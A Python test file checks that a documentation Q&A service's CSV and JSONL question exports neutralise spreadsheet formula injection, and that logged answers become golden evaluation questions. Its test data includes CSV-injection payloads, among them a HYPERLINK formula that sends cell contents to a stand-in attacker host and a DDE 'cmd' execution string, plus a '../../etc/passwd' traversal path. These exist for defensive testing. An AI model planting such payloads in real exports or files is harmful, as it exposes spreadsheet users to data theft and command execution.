"""Exports for spreadsheets and programs, and lines of golden questions."""

import csv
import io
import json
import re
import unicodedata
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.evaluation import Outcome, Plan, evaluate
from lib.golden import GoldPlace, Question, read_questions, write_question
from lib.question_export import ExportQuery, _harmless, export_questions
from lib.question_list import QuestionRow
from lib.store import all_urls
from tests.api import Api, serving
from tests.conftest import MakeSettings
from tests.logged import log_of, logged, passage, write
from tests.tiny_book import BOOK, write_book

DANGEROUS = "=+-@＝＋－＠﹦﹢﹣﹫\t\r\n"
IGNORED = "\u200b\ufeff\u00a0\u3000\u2060\u00ad\u0301\ufe0f \"'“«`\x0b\x1f"
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "\u3000＝1+1",
    "\t=1+1",
    "\r\n=1+1",
    "\u200b\ufeff=1",
    '"=1',
    "“@x",
    "x;=1+1;",
    "x\t=1",
    "x\n=1",
    "x,\u200b-1",
    "'=1",
    "\u0301=1",
)


async def export(api: Api, **wanted: Any) -> bytes:
    return b"".join([each async for each in await export_questions(log_of(api), wanted_of(wanted))])


def wanted_of(fields: dict[str, Any]) -> ExportQuery:
    return msgspec.convert(fields, ExportQuery)


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet could take a cell for a formula, by Unicode's own equivalences."""
    skipped = ("Z", "C", "M")
    for each in cell:
        if unicodedata.category(each)[0] in skipped or each in '"`“”„«»‹›‘’‚‟‛':
            continue
        return unicodedata.normalize("NFKC", each)[0] in "=+-@"
    return False


def cells(exported: bytes, delimiter: str) -> list[str]:
    text = exported.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
async def test_no_cell_is_a_formula(logging: Api, delimiter: str) -> None:
    """Whatever separator a spreadsheet expects."""
    entries = [
        logged(
            text,
            answer=number,
            conversation=text,
            language=text,
            interface=text,
            mode=text,
            fallback=text,
            code=text,
            passages=(
                passage(text, heading=text, url=text),
                passage(text, heading=text, url=None, cited=False),
                passage(f"a{text}", heading=text, url=None, cited=False),
            ),
        )
        for number, text in enumerate(FORMULAS)
    ]
    await write(logging, entries)
    for number, text in enumerate(FORMULAS):
        log_of(logging).vote(number, text, text, text)
    await log_of(logging).flush()
    found = cells(await export(logging), delimiter)
    assert len(found) > len(FORMULAS)
    assert [cell for cell in found if is_formula(cell)] == []
    if delimiter == ",":
        assert [cell for cell in found if cell.startswith(("\t", "\r", "\n"))] == []


@given(st.text(st.sampled_from([*DANGEROUS, *IGNORED, *"ab;,|"]), max_size=12))
def test_a_cell_is_harmless_and_keeps_its_text(text: str) -> None:
    written = _harmless(text)
    for delimiter in ",;\t|":
        row = io.StringIO()
        csv.writer(row).writerow(["1", written, "2"])
        assert not any(map(is_formula, cells(row.getvalue().encode(), delimiter))), written
    assert not written.startswith(("\t", "\r", "\n"))
    assert written.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text", ["What is a-b?", "a = b", "1 + 1 = 2", "Why? - Because.", "C++", "a@b", "", "–"]
)
def test_other_text_is_not_changed(text: str) -> None:
    assert _harmless(text) == text


async def test_csv_has_a_row_for_each_question(logging: Api) -> None:
    note = 'He said: "no,\r\nnever"'
    await write(
        logging,
        [
            logged(
                "Wann?  Ü ‮abc",
                answer=1,
                first_ms=250,
                cost_usd=None,
                passages=(
                    passage(),
                    passage(start_char=1),
                    passage("b.md", url=None),
                    passage("c.md", url=None, cited=False),
                ),
            ),
            logged("<b>Second</b>", outcome="refused"),
        ],
    )
    log_of(logging).vote(1, "down", "wrong", note)
    await log_of(logging).flush()
    exported = await export(logging)
    assert exported.startswith(b"\xef\xbb\xbfid,asked_at,conversation,question,")
    assert exported.endswith(b"\r\n")
    second, first = csv.DictReader(io.StringIO(exported.decode("utf-8-sig"), newline=""))
    assert second["question"] == "<b>Second</b>"
    assert (second["outcome"], second["cited"], second["nearest"]) == ("refused", "", "")
    assert first["question"] == "Wann?  Ü ‮abc"
    assert (first["note"], first["vote"], first["reason"]) == (note, "down", "wrong")
    assert (first["first_seconds"], first["cost_usd"]) == ("0.25", "")
    assert re.fullmatch(r"20\d\d-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", first["asked_at"])
    assert first["cited"] == "https://book.example/docs/guide/tides#currents; b.md"
    assert first["nearest"] == "c.md"


async def test_json_lines_have_the_rows_of_the_list(logging: Api) -> None:
    await write(logging, [logged(text, passages=(passage(),)) for text in FORMULAS])
    exported = await export(logging, format="jsonl")
    rows = [msgspec.json.decode(line, type=QuestionRow) for line in exported.splitlines()]
    listed = (await logging.as_admin("GET", "/admin/questions")).json()
    assert [msgspec.to_builtins(row) for row in rows] == [
        msgspec.to_builtins(msgspec.convert(each, QuestionRow)) for each in listed["questions"]
    ]
    assert [row.question for row in rows] == [*reversed(FORMULAS)]


@pytest.mark.parametrize("count", [0, 1, 499, 500, 501, 1_203])
async def test_an_export_is_read_in_pieces(logging: Api, count: int) -> None:
    await write(logging, [logged(f"Question {each}?") for each in range(count)])
    pieces = await export_questions(log_of(logging), ExportQuery(format="jsonl"))
    read = [await anext(pieces, b"")]
    await write(logging, [logged("Too late?")])  # a question of a later time
    read += [each async for each in pieces]
    numbers = [json.loads(line)["id"] for line in b"".join(read).splitlines()]
    assert numbers == [*range(count, 0, -1)]


async def test_an_export_has_the_filters_of_the_list(logging: Api) -> None:
    await write(logging, [logged("One?", outcome="refused"), logged("Two?")])
    rows = (await export(logging, format="jsonl", unanswered=True)).splitlines()
    assert [json.loads(row)["question"] for row in rows] == ["One?"]


@pytest.mark.parametrize(("form", "kind"), [("csv", "text/csv"), ("jsonl", "application/jsonl")])
async def test_the_file_is_named_by_its_date(logging: Api, form: str, kind: str) -> None:
    await write(logging, [logged()])
    for method in ("GET", "HEAD"):
        answer = await logging.as_admin(method, f"/admin/export?format={form}")
        assert answer.headers["Content-Type"] == f"{kind}; charset=utf-8"
        named = rf'attachment; filename="questions-20\d\d-\d\d-\d\d\.{form}"'
        assert re.fullmatch(named, answer.headers["Content-Disposition"])


async def golden(api: Api, question: int) -> bytes:
    answer = await api.as_admin("GET", f"/admin/questions/{question}/golden")
    assert answer.status == 200, answer.text
    named = f'attachment; filename="golden-{question}.jsonl"'
    assert answer.headers["Content-Disposition"] == named
    assert answer.content.endswith(b"\n")
    assert answer.content.count(b"\n") == 1
    return answer.content


async def read_golden(line: bytes, book: Path, folder: Path) -> Question:
    file = folder / "questions.jsonl"
    file.write_bytes(line)
    (question,) = read_questions([file], book)
    return question


async def evaluated(api: Api, question: Question) -> Outcome:
    """Search for a golden question, as `main.py eval --no-answers` does."""
    known = await all_urls(api.services.store)
    plan = Plan(k=5, concurrency=1, answers=False)
    (outcome,) = await evaluate(api.services, [question], plan, known, lambda: None)
    return outcome


@pytest.mark.parametrize(
    ("asked", "expected"),
    [
        ("How many fenders?", {"file": "guide/mooring.md", "heading": "Fenders"}),
        ("Which channel do I call?", {"file": "guide/mooring.md", "heading": "Radio"}),
        ("When does the office open?", {"file": "index.md", "heading": "Opening hours"}),
        (
            "When does the tide turn?",
            {"file": "guide/tides.md", "heading": "Tides \U0001f30a and déjà vu"},
        ),
    ],
)
async def test_an_answer_becomes_a_golden_question(
    logging: Api, book: Path, tmp_path: Path, asked: str, expected: dict[str, str]
) -> None:
    """The evaluation reads it, and finds the place again."""
    await logging.ask(asked)
    await log_of(logging).flush()
    line = await golden(logging, 1)
    assert json.loads(line) == {"question": asked, **expected}
    question = await read_golden(line, book, tmp_path)
    assert (await evaluated(logging, question)).ranks == (1,)


async def test_an_unanswered_question_becomes_one_that_is_not_answerable(
    logging: Api, book: Path, tmp_path: Path
) -> None:
    await logging.ask("Who composed the ninth symphony?")
    await log_of(logging).flush()
    line = await golden(logging, 1)
    assert json.loads(line) == {
        "question": "Who composed the ninth symphony?",
        "answerable": False,
    }
    assert (await read_golden(line, book, tmp_path)).answer == ()


async def test_a_follow_up_has_the_earlier_questions(
    logging: Api, book: Path, tmp_path: Path
) -> None:
    await write(
        logging,
        [
            *(logged(f"Question {each}?") for each in range(5)),
            logged("Other?", conversation="c2"),
            logged("Thanks", outcome="small_talk"),
            logged("And at night?", stands_alone=False, passages=(passage(),)),
        ],
    )
    line = await golden(logging, 8)
    assert json.loads(line) == {
        "question": "And at night?",
        "file": "guide/tides.md",
        "heading": "Currents",
        "history": ["Question 2?", "Question 3?", "Question 4?"],
    }
    question = await read_golden(line, book, tmp_path)
    assert question.history == ("Question 2?", "Question 3?", "Question 4?")


@pytest.mark.parametrize("outcome", ["answered", "failed", "left", "small_talk"])
async def test_a_question_without_a_cited_place_has_no_line(logging: Api, outcome: str) -> None:
    await write(logging, [logged(outcome=outcome, passages=(passage(cited=False),))])
    answer = await logging.as_admin("GET", "/admin/questions/1/golden")
    assert (answer.status, answer.json()["code"]) == (409, "CONFLICT")


@pytest.mark.parametrize(
    "place",
    [
        passage(heading="Tides > No such heading"),
        passage(heading="Tides > Currents", start_char=0, end_char=20),
        passage("gone.md"),
        passage("../../etc/passwd"),
        passage(heading=""),
    ],
)
async def test_a_place_that_is_not_found_is_its_whole_file(logging: Api, place: Any) -> None:
    await write(logging, [logged(passages=(place,))])
    line = await golden(logging, 1)
    assert json.loads(line) == {"question": "When does the tide turn?", "file": place.file_path}


async def test_without_an_index_the_whole_file_answers(
    make_settings: MakeSettings, tmp_path: Path
) -> None:
    settings = make_settings(
        qdrant_path=tmp_path, book_content_path=tmp_path / "none", question_log=30
    )
    async with serving(settings) as api:
        await write(api, [logged(passages=(passage(),))])
        line = json.loads(await golden(api, 1))
        assert line == {"question": "When does the tide turn?", "file": "guide/tides.md"}


HOSTILE = [
    *FORMULAS,
    '{"answerable": false}',
    "a\nb",
    "a\u2028b",
    "<script>",
    "x" * 5_000,
    "\u202eabc",
    " a ",
]


@pytest.mark.parametrize("text", HOSTILE)
async def test_a_hostile_question_is_one_line(
    logging: Api, book: Path, tmp_path: Path, text: str
) -> None:
    await write(logging, [logged(text, passages=(passage(),))])
    question = await read_golden(await golden(logging, 1), book, tmp_path)
    assert question.text == text[:1_000].strip()
    assert question.answer == ((GoldPlace("guide/tides.md", *question_span()),),)


def question_span() -> tuple[int, int]:
    text = BOOK["guide/tides.md"]
    return text.index("## Currents"), len(text)


async def test_a_heading_may_have_the_separator_of_paths(tmp_path: Path) -> None:
    text = "# A > B\n\nIntro.\n\n## C > D\n\nMore than enough text to be found here.\n"
    write_book(tmp_path, {"a.md": text})
    start = text.index("More")
    cited = passage("a.md", heading="A > B > C > D", start_char=start, end_char=len(text))
    line = write_question("Why?", (), cited, text)
    assert json.loads(line)["heading"] == "C > D"
    assert (await read_golden(line, tmp_path, tmp_path)).answer[0][0].hit_by(cited)


PAGE = (
    f"<html><head><title>Tides</title></head><body><nav>{'Menu ' * 50}</nav><main><h1>Tides</h1>"
    "<p>The tide turns every six hours and a quarter, as everyone at the quay knows.</p>"
    "<h2 id='currents'>Currents</h2><p>The current in the entrance runs at three knots.</p>"
    "</main></body></html>"
)


async def test_a_page_of_html_answers_as_a_whole(
    make_settings: MakeSettings, tmp_path: Path
) -> None:
    """Passages of HTML count in its Markdown, and the evaluation reads the file."""
    book = write_book(tmp_path / "book", {"index.html": PAGE})
    settings = make_settings(
        book_content_path=book,
        qdrant_path=tmp_path / "index",
        site_generator="auto",
        question_log=30,
    )
    async with serving(settings) as api:
        await api.ingest()
        await api.ask("How fast is the current in the entrance?")
        await log_of(api).flush()
        line = await golden(api, 1)
        assert json.loads(line) == {
            "question": "How fast is the current in the entrance?",
            "file": "index.html",
        }
        question = await read_golden(line, book, tmp_path)
        assert (await evaluated(api, question)).ranks == (1,)
